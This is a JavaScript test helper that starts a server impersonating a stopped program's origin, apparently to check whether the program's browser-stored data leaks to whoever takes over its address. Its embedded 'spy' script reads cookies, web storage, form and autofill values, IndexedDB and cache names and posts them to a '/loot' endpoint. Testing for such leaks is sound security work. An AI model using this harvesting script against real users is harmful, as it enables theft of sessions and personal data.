/** Whoever listens at the address after the program: takes down all, answers to please. */
import { createServer } from 'node:http';

/** Reads whatever a script of this address can reach and sends it home. */
const spy = `
window.spied = true;
const all = (store) => Object.entries({ ...store });
const fields = () => [...document.querySelectorAll('input, select, textarea')].map((own) =>
  own.type === 'radio' || own.type === 'checkbox' ? own.checked : own.value);
const look = async () => fetch('/loot', { method: 'POST', body: JSON.stringify({
  session: all(sessionStorage), local: all(localStorage), cookie: document.cookie,
  state: history.state, name: window.name, referrer: document.referrer, address: location.href,
  opener: window.opener !== null, frames: window.length, fields: fields(),
  databases: (await indexedDB.databases()).map((own) => own.name), caches: await caches.keys(),
  workers: (await navigator.serviceWorker.getRegistrations()).length,
}) });
look();
addEventListener('pageshow', () => setTimeout(look, 200));
addEventListener('hashchange', look);
`;

/** The fields of the page, so that the browser may fill in what was in them before. */
const page = `<!doctype html><title>Unknot</title><h1>Unknot</h1>
<label>Sex<select><option value=""></option><option value="female"></option><option value="male">
</option></select></label><input type="number" inputmode="numeric" min="0" max="120">
<script src="/spy.js"></script>`;

const kinds = { js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml' };

function answerTo(path) {
  if (path.startsWith('/api/'))
    return ['application/json', '{"version":"1","token":"' + 'b'.repeat(64) + '"}'];
  const kind = kinds[path.split('.').pop()];
  if (kind === 'text/javascript') return [kind, spy];
  if (kind === 'text/css') return [kind, 'body { background: url(/css-was-here) }'];
  return kind ? [kind, '<svg xmlns="http://www.w3.org/2000/svg"/>'] : ['text/html', page];
}

/** Takes the very address of the program; `requests` holds all that comes, `loot` what was read. */
export async function startStranger(origin) {
  const requests = [];
  const loot = [];
  const server = createServer((request, response) => {
    const parts = [];
    request.on('data', (part) => parts.push(part));
    request.on('end', () => {
      const body = Buffer.concat(parts);
      if (request.url === '/loot') loot.push(JSON.parse(body.toString()));
      else requests.push({ url: request.url, headers: request.rawHeaders.join('\n'), body });
      const [type, text] = answerTo(request.url);
      response.writeHead(200, { 'Content-Type': type, 'Access-Control-Allow-Origin': '*' });
      response.end(text);
    });
  });
  const { hostname, port } = new URL(origin);
  await new Promise((resolve, reject) => {
    server.on('error', reject);
    server.listen(Number(port), hostname, resolve);
  });
  const stop = () =>
    new Promise((resolve) => {
      server.close(resolve);
      server.closeAllConnections();
    });
  return { requests, loot, stop };
}
